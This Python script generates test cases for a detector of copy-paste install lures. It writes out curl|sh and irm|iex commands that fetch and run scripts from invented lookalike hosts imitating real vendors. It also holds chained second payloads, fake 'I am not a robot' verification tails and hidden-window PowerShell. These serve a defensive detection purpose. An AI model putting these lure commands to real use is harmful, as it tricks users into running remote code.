"""Writes tests/data/cases/provenance.jsonl: install commands with the page they were copied from
and the place they are pasted into, and lures that borrow an installer's look.

    python tests/data/cases/make_provenance.py

Deterministic: the same file every run. Every project, vendor and host here is made up for
these cases (real-shaped, not real); the few real names are the trust-list vendors that the
imitation cases imitate. Each line is {id, text, expect, technique, platform, source, target}:

- installers from their own project's page into a terminal: `info` (cleared, never blocked);
- the same installers from a page that shares nothing with the script host: `flagged`;
- the same installers pasted into the Run dialog or Explorer's address bar: `malicious`;
- hosts imitating a known vendor, a user part, a longer host, a trusted URL only in a comment,
  chains that mix the project's script with someone else's: `flagged` or `malicious`;
- programs, paths and addresses in the Run dialog: `clean` or `not_flagged`; anything more:
  `suspicious`, and `malicious` when it came from a web page.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("provenance.jsonl")
BENIGN = "none"  # the technique field of a case that is no attack
LURE = "T1204.004"  # user execution: malicious copy and paste
MASQUERADE = "T1036"  # a host or address dressed up as another

# GitHub and GitLab projects: (owner, repository, default branch).
PROJECTS = [
    ("acme-tools", "widgetctl", "main"),
    ("northwind-labs", "driftwatch", "main"),
    ("quillstack", "quill", "master"),
    ("tidepool-dev", "tidepool-cli", "main"),
    ("lanternfish", "lantern", "main"),
    ("mossbyte", "moss", "trunk"),
    ("ferrous-owl", "owlsh", "main"),
    ("blue-heron-io", "heronctl", "main"),
    ("kestrel-ops", "kestrel", "develop"),
    ("sandpiper", "sandpiper-agent", "main"),
    ("copperleaf", "leafsync", "main"),
    ("dunmore", "dunmore-installer", "main"),
    ("orbital-yak", "yakbox", "main"),
    ("graniteworks", "granite", "main"),
    ("pebble-hq", "pebble", "main"),
    ("vireo-systems", "vireo", "stable"),
    ("marlin-code", "marlin-lsp", "main"),
    ("hollowtree", "hollow", "main"),
    ("zephyrine", "zephyr-shell", "main"),
    ("cinderpath", "cinder", "main"),
    ("umbra-labs", "umbractl", "main"),
    ("fjordkit", "fjord", "main"),
    ("saltmarsh", "saltenv", "main"),
    ("ravenloft-dev", "raven", "main"),
    ("brightkelp", "kelpdb", "main"),
    ("ironbark-oss", "ironbark", "main"),
    ("mistral-valley", "valleyfmt", "main"),
    ("tallgrass", "tg", "main"),
    ("gullwing", "gullwing-cli", "main"),
    ("emberline", "ember", "main"),
]
GITLAB = [
    ("larkspur", "larkctl", "main"),
    ("fernhollow", "fern", "main"),
    ("quartzlake", "quartz-runner", "main"),
    ("birchbark", "bark", "master"),
    ("sable-systems", "sable", "main"),
    ("heathland", "heath-cli", "main"),
    ("pinecone-ops", "conectl", "main"),
    ("oakmoss", "oakmoss-agent", "main"),
]
# Vendors with their own site: (domain, product).
VENDORS = [
    ("tidepool.dev", "tidepool"),
    ("quillstack.io", "quill"),
    ("kestrelops.com", "kestrel"),
    ("lanternfish.sh", "lantern"),
    ("mossbyte.dev", "moss"),
    ("heronctl.io", "heronctl"),
    ("driftwatch.app", "driftwatch"),
    ("yakbox.dev", "yakbox"),
    ("granite-db.com", "granite"),
    ("pebblehq.io", "pebble"),
    ("vireo.systems", "vireo"),
    ("marlin-lsp.org", "marlin"),
    ("hollowtree.dev", "hollow"),
    ("zephyrshell.net", "zephyr"),
    ("cinderpath.io", "cinder"),
    ("umbralabs.dev", "umbra"),
    ("fjordkit.io", "fjord"),
    ("saltenv.dev", "saltenv"),
    ("brightkelp.com", "kelp"),
    ("ironbark.tools", "ironbark"),
    ("valleyfmt.dev", "valleyfmt"),
    ("tallgrass.run", "tg"),
    ("gullwing.cloud", "gullwing"),
    ("emberline.co.uk", "ember"),
    ("larkspur.sh", "lark"),
    ("fernhollow.org", "fern"),
    ("quartzlake.io", "quartz"),
    ("sablesys.com", "sable"),
    ("heathland.dev", "heath"),
    ("oakmoss.ai", "oakmoss"),
]
# Pages that have nothing to do with the script they put on the clipboard.
LURE_PAGES = [
    "https://verify-human.checkpoint-portal.top/captcha",
    "https://docs-viewer.fileshare-online.xyz/open?id=8812",
    "https://meeting-join.example-conf.click/room/5521",
    "https://blog.example.org/2024/05/setting-up-your-dev-box",
    "https://forum.example.net/t/install-help/9912",
    "https://update-browser.example-support.site/",
]
# Hosts dressed up as a trust-list vendor, with what they imitate.
IMITATIONS = [
    ("rustup-rs.top", "curl --proto '=https' --tlsv1.2 -sSf https://rustup-rs.top/init.sh | sh"),
    ("brew-sh.site", '/bin/bash -c "$(curl -fsSL https://brew-sh.site/install.sh)"'),
    ("homebrew-install.pro", "curl -fsSL https://homebrew-install.pro/install.sh | bash"),
    ("homebrewinstall.com", "curl -fsSL https://homebrewinstall.com/install.sh | bash"),
    ("brew.sh.install-now.top", "curl -fsSL https://brew.sh.install-now.top/install.sh | bash"),
    ("get-docker.xyz", "curl -fsSL https://get-docker.xyz/install.sh | sudo sh"),
    ("dockerr.com", "curl -fsSL https://get.dockerr.com | sh"),
    ("ollama-ai.top", "curl -fsSL https://ollama-ai.top/install.sh | sh"),
    ("olama.com", "curl -fsSL https://olama.com/install.sh | sh"),
    ("astral-sh.online", "curl -LsSf https://astral-sh.online/uv/install.sh | sh"),
    ("astra1.sh", "irm https://astra1.sh/uv/install.ps1 | iex"),
    ("bun-sh.click", "curl -fsSL https://bun-sh.click/install | bash"),
    ("deno-land.site", "irm https://deno-land.site/install.ps1 | iex"),
    ("chocolatey-install.net", "iex ((New-Object System.Net.WebClient).DownloadString('https://chocolatey-install.net/install.ps1'))"),
    ("scoop-sh.top", "irm https://scoop-sh.top | iex"),
    ("pnpm-io.site", "iwr https://pnpm-io.site/install.ps1 -useb | iex"),
    ("starship-rs.top", "curl -sS https://starship-rs.top/install.sh | sh"),
    ("nodesource-setup.com", "curl -fsSL https://nodesource-setup.com/setup_20.x | sudo -E bash -"),
    ("tailscale-install.com", "curl -fsSL https://tailscale-install.com/install.sh | sh"),
    ("raw.githubusercontent.com.cdn-mirror.top", "curl -fsSL https://raw.githubusercontent.com.cdn-mirror.top/Homebrew/install/HEAD/install.sh | bash"),
    ("sh.rustup.rs.mirror-get.top", "curl -sSf https://sh.rustup.rs.mirror-get.top | sh"),
    ("xn--rstup-5ve.rs", "curl -sSf https://sh.xn--rstup-5ve.rs | sh"),
]  # fmt: skip
# Run dialog and Explorer bar: what people type there.
RUN_BOX_PLAIN = [
    "notepad",
    "calc",
    "mspaint",
    "timedate.cpl",
    "services.msc",
    "control",
    "%APPDATA%",
    "%TEMP%",
    r"C:\Users\Public\Documents",
    r"C:\Program Files\Tidepool\logs",
    r"\\fileserver01\shared\Finance",
    r"\\nas.corp.example\projects",
    "shell:startup",
    "ms-settings:display",
    "https://intranet.example.org/helpdesk",
    "https://www.example.com/downloads",
    "Quarterly report 2024.pdf",
    r'"C:\Users\Public\Documents\Team notes.docx"',
]
RUN_BOX_COMMANDS = [
    "cmd /c whoami",
    "ipconfig /all",
    # ping with one computer and its counting switches is a network check whoever wrote it
    # (resources/runbox.yaml `pages`); what it shows written to a file is a command
    "ping -t 10.0.0.1 > %TEMP%\\p.txt",
    # an editor given a file is a user's own typed (runbox.Shape.OPEN); with a switch, a command
    "notepad /p C:\\Windows\\System32\\drivers\\etc\\hosts",
    "control printers extra",
    "taskkill /im explorer.exe /f",
    "net use Z: \\\\fileserver01\\shared",
    # restarting this computer, typed, is a user's own (resources/runbox.yaml); restarting
    # another computer is a command
    "shutdown /r /m \\\\fileserver01 /t 0",
    "msiexec /i C:\\Temp\\setup.msi",
    "explorer.exe shell:startup && calc",
    "https://files.example.net/invoice.pdf    # I am not a robot - Verification ID: 7731",
    "cmd /k echo Verification complete",
]


def github_cases() -> list[dict[str, str]]:
    out = []
    for n, (owner, repo, branch) in enumerate(PROJECTS, start=1):
        page = f"https://github.com/{owner}/{repo}"
        raw = f"https://raw.githubusercontent.com/{owner}/{repo}/{branch}"
        tag = f"v{n % 4}.{n % 9}.{n}"
        release = f"https://github.com/{owner}/{repo}/releases/download/{tag}"
        own = [
            (page, f"curl -fsSL {raw}/install.sh | sh", "linux"),
            (f"{page}#readme", f'sh -c "$(curl -fsSL {raw}/scripts/install.sh)"', "macos"),
            (f"{page}/blob/{branch}/README.md", f"wget -qO- {raw}/install.sh | bash", "linux"),
            (f"{page}/releases/tag/{tag}", f"curl -fsSL {release}/install.sh | bash", "linux"),
            (page, f"irm {raw}/install.ps1 | iex", "windows"),
            (f"https://{owner}.github.io/{repo}/", f"curl -sSfL {raw}/install.sh | sh -s -- -y", "linux"),
            (f"{page}/wiki/Installation", f"curl -fsSL https://{owner}.github.io/{repo}/install.sh | bash", "macos"),
        ]  # fmt: skip
        for k, (source, text, platform) in enumerate(own, start=1):
            out.append(
                case(f"p-gh-own-{n}-{k}", text, "info", BENIGN, platform, source, "terminal")
            )
        lure_page = LURE_PAGES[n % len(LURE_PAGES)]
        text = f"curl -fsSL {raw}/install.sh | sh"
        out += [
            case(f"p-gh-elsewhere-{n}", text, "flagged", LURE, "linux", lure_page, "terminal"),
            case(f"p-gh-run-dialog-{n}", f"irm {raw}/install.ps1 | iex", "malicious", LURE,
                 "windows", page, "run_dialog"),
            case(f"p-gh-explorer-bar-{n}", text, "malicious", LURE, "windows", page, "explorer_bar"),
            case(f"p-gh-other-owner-{n}",
                 f"curl -fsSL https://raw.githubusercontent.com/{owner}-release/{repo}/{branch}/install.sh | sh",
                 "flagged", MASQUERADE, "linux", page, "terminal"),
            case(f"p-gh-longer-host-{n}",
                 f"curl -fsSL https://raw.githubusercontent.com.{repo}-cdn.top/{owner}/{repo}/{branch}/install.sh | sh",
                 "malicious", MASQUERADE, "linux", page, "terminal"),
            case(f"p-gh-comment-{n}",
                 f"curl -fsSL https://{repo}-cdn.top/i.sh | sh  # {raw}/install.sh",
                 "flagged", MASQUERADE, "linux", page, "terminal"),
            case(f"p-gh-chain-{n}",
                 f"curl -fsSL {raw}/install.sh | sh && curl -fsSL https://{repo}-telemetry.top/p | sh",
                 "flagged", LURE, "linux", page, "terminal"),
        ]  # fmt: skip
    return out


def gitlab_cases() -> list[dict[str, str]]:
    out = []
    for n, (owner, repo, branch) in enumerate(GITLAB, start=1):
        page = f"https://gitlab.com/{owner}/{repo}"
        raw = f"https://gitlab.com/{owner}/{repo}/-/raw/{branch}"
        own = [
            (page, f"curl -fsSL {raw}/install.sh | bash", "linux"),
            (f"{page}/-/blob/{branch}/README.md", f"irm {raw}/install.ps1 | iex", "windows"),
            (
                f"https://{owner}.gitlab.io/{repo}/docs/",
                f"curl -sSL {raw}/install.sh | sh",
                "linux",
            ),
            (page, f"curl -fsSL https://{owner}.gitlab.io/{repo}/install.sh | sh", "macos"),
        ]
        for k, (source, text, platform) in enumerate(own, start=1):
            out.append(
                case(f"p-gl-own-{n}-{k}", text, "info", BENIGN, platform, source, "terminal")
            )
        out += [
            case(f"p-gl-other-owner-{n}",
                 f"curl -fsSL https://gitlab.com/{owner}-mirror/{repo}/-/raw/{branch}/install.sh | bash",
                 "flagged", MASQUERADE, "linux", page, "terminal"),
            case(f"p-gl-run-dialog-{n}", f"irm {raw}/install.ps1 | iex", "malicious", LURE,
                 "windows", page, "run_dialog"),
        ]  # fmt: skip
    return out


def vendor_cases() -> list[dict[str, str]]:
    out = []
    for n, (domain, product) in enumerate(VENDORS, start=1):
        own = [
            (f"https://docs.{domain}/install", f"curl -sSf https://get.{domain} | sh", "linux"),
            (f"https://{domain}/docs", f"irm https://{domain}/install.ps1 | iex", "windows"),
            (f"https://www.{domain}/download", f"curl -fsSL https://{domain}/install.sh | bash -s -- --yes", "macos"),
            (f"https://{domain}/", f"wget -qO- https://dl.{domain}/{product}/install.sh | sh", "linux"),
            (f"https://docs.{domain}/getting-started#windows",
             f'powershell -ExecutionPolicy Bypass -c "irm https://{domain}/install.ps1 | iex"', "windows"),
            (f"https://{domain}/docs/cli", f"curl -LsSf https://releases.{domain}/{product}/latest/install.sh | sh", "linux"),
            (f"https://github.com/{product}-project/{product}",
             f"curl -fsSL https://{domain}/install.sh | sh", "linux"),
        ]  # fmt: skip
        if domain.split(".")[0] != product:
            own.pop()  # a repository page vouches for a site only when it bears the site's name
        for k, (source, text, platform) in enumerate(own, start=1):
            out.append(
                case(f"p-vendor-own-{n}-{k}", text, "info", BENIGN, platform, source, "terminal")
            )
        text = f"curl -fsSL https://{domain}/install.sh | sh"
        out += [
            case(f"p-vendor-elsewhere-{n}", text, "flagged", LURE, "linux",
                 LURE_PAGES[n % len(LURE_PAGES)], "terminal"),
            case(f"p-vendor-http-{n}", f"curl -fsSL http://{domain}/install.sh | sh", "flagged",
                 LURE, "linux", f"https://{domain}/docs", "terminal"),
            case(f"p-vendor-run-dialog-{n}", f"irm https://{domain}/install.ps1 | iex",
                 "malicious", LURE, "windows", f"https://{domain}/docs", "run_dialog"),
            case(f"p-vendor-userinfo-{n}",
                 f"curl -sSf https://{domain}@{product}-get.top/install.sh | sh",
                 "malicious", MASQUERADE, "linux", f"https://{domain}/docs", "terminal"),
            case(f"p-vendor-comment-{n}",
                 f"curl -fsSL https://{product}-cdn.top/x.sh | sh # https://{domain}/install.sh",
                 "flagged", MASQUERADE, "linux", f"https://{domain}/docs", "terminal"),
            case(f"p-vendor-chain-{n}",
                 f"curl -fsSL https://{domain}/install.sh | sh; curl -s https://{product}-stats.top/a | bash",
                 "flagged", LURE, "linux", f"https://{domain}/docs", "terminal"),
            case(f"p-vendor-lure-tail-{n}",
                 f"curl -fsSL https://{domain}/install.sh | sh # I am not a robot - Verification ID: {4000 + n}",
                 "malicious", LURE, "linux", f"https://{domain}/verify", "terminal"),
            case(f"p-vendor-hidden-{n}",
                 f'powershell -w hidden -c "irm https://{domain}/install.ps1 | iex"',
                 "flagged", LURE, "windows", f"https://{domain}/docs", "terminal"),
        ]  # fmt: skip
    return out


def imitation_cases() -> list[dict[str, str]]:
    out = []
    for n, (host, text) in enumerate(IMITATIONS, start=1):
        platform = "windows" if "iex" in text else "macos" if "/bin/bash" in text else "linux"
        out += [
            case(f"p-imitation-own-page-{n}", text, "malicious", MASQUERADE, platform,
                 f"https://{host}/", "terminal"),
            case(f"p-imitation-no-context-{n}", text, "malicious", MASQUERADE, platform, "",
                 "unknown"),
        ]  # fmt: skip
    return out


def run_box_cases() -> list[dict[str, str]]:
    out = []
    for n, text in enumerate(RUN_BOX_PLAIN, start=1):
        for target in ("run_dialog", "explorer_bar"):
            out.append(case(f"p-runbox-plain-{target}-{n}", text, "not_flagged", BENIGN,
                            "windows", "https://support.example.org/kb/1234", target))  # fmt: skip
    for n, text in enumerate(RUN_BOX_COMMANDS, start=1):
        for target in ("run_dialog", "explorer_bar"):
            out.append(case(f"p-runbox-command-{target}-{n}", text, "flagged", LURE, "windows",
                            "", target))  # fmt: skip
            out.append(case(f"p-runbox-web-{target}-{n}", text, "malicious", LURE, "windows",
                            LURE_PAGES[n % len(LURE_PAGES)], target))  # fmt: skip
    return out


def build() -> list[dict[str, str]]:
    cases = github_cases() + gitlab_cases() + vendor_cases() + imitation_cases() + run_box_cases()
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
